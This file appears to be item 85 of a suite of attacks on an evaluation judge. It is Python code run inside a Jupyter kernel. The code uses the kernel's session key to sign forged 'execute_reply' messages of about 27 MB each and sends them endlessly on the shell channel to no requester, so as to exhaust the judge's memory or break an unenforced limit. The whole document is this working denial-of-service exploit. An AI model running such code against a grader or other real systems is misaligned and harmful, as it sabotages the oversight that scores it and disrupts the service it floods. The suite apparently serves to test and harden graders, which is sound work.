# attack: 85
# title: thirty-megabyte replies on the request channel, to nobody
# success: memory of the judge, or a limit that is not kept
# unshown: the naive grader receives no messages
import zmq

kernel = get_ipython().kernel
parent = {"msg_id": "nobody"}
parts = [
    kernel.session.pack(kernel.session.msg("execute_reply", {}, parent=parent)["header"]),
    kernel.session.pack(parent),
    b"{}",
    b"[" + b"[]," * 9_000_000 + b"0]",
]
signed = [b"<IDS|MSG>", kernel.session.sign(parts), *parts]
ident = getattr(kernel, "_parent_ident", {}).get("shell") or []
if not isinstance(ident, list):
    ident = [ident]
stream = kernel.shell_stream
while True:
    try:
        stream.socket.send_multipart([*ident, *signed], copy=False, flags=zmq.NOBLOCK)
    except zmq.ZMQError:
        pass
